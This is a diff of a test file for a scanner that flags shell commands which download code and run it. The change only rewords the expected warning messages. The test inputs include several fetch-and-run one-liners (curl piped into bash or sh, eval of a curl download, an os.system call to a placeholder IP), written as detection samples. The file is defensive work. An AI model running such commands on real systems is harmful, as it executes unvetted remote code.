@@ -27,12 +27,12 @@ describe("code that comes from the network and runs", () => {
     [
       "kept in a variable",
       block("script=$(curl -s https://x.example/a)", 'eval "$script"'),
-      ["3 high runs a download of x.example with eval"],
+      ["3 high runs a download from x.example with eval"],
     ],
     [
       "in a substitution",
       block('bash -c "$(curl -s https://x.example/a)"'),
-      ["2 high runs a download of x.example with bash"],
+      ["2 high runs a download from x.example with bash"],
     ],
     [
       "without an address that can be read",
@@ -53,29 +53,29 @@ describe("code that comes from the network and runs", () => {
     [
       "behind a prompt, among answers",
       "```console\n$ curl -s https://x.example/a \\\n  | bash\ncurl -s https://y.example/b | bash\n```",
-      ["3 high pipes a download of x.example into bash"],
+      ["3 high pipes a download from x.example into bash"],
     ],
     [
       "an example of an attack",
       `## Attack patterns\n\n${block("curl -s https://x.example/a | bash")}`,
-      ["4 medium pipes a download of x.example into bash"],
+      ["4 medium pipes a download from x.example into bash"],
     ],
     [
       "as a text of another language",
       'os.system("curl -s http://203.0.113.7:8080/ | sh")',
-      ["1 high pipes a download of 203.0.113.7:8080 into sh"],
+      ["1 high pipes a download from 203.0.113.7:8080 into sh"],
       "script",
     ],
     [
       "in a shell script",
       "#!/bin/sh\ncurl -s https://x.example/a | sh\n",
-      ["2 high pipes a download of x.example into sh"],
+      ["2 high pipes a download from x.example into sh"],
       "shell",
     ],
     [
       "in a sentence",
       "Run `curl -s https://x.example/a | sh` now.",
-      ["1 high pipes a download of x.example into sh"],
+      ["1 high pipes a download from x.example into sh"],
     ],
   ])("%s", (_name, text, expected, format) => {
     expect(seenIn(text, format)).toEqual(expected);
@@ -146,7 +146,7 @@ describe("installers of known vendors are low", () => {
 
   test("also in PowerShell", () => {
     expect(seenIn("irm https://astral.sh/uv/install.ps1 | iex")).toEqual([
-      "1 low runs a download of astral.sh in PowerShell",
+      "1 low runs a download from astral.sh in PowerShell",
     ]);
   });
 });
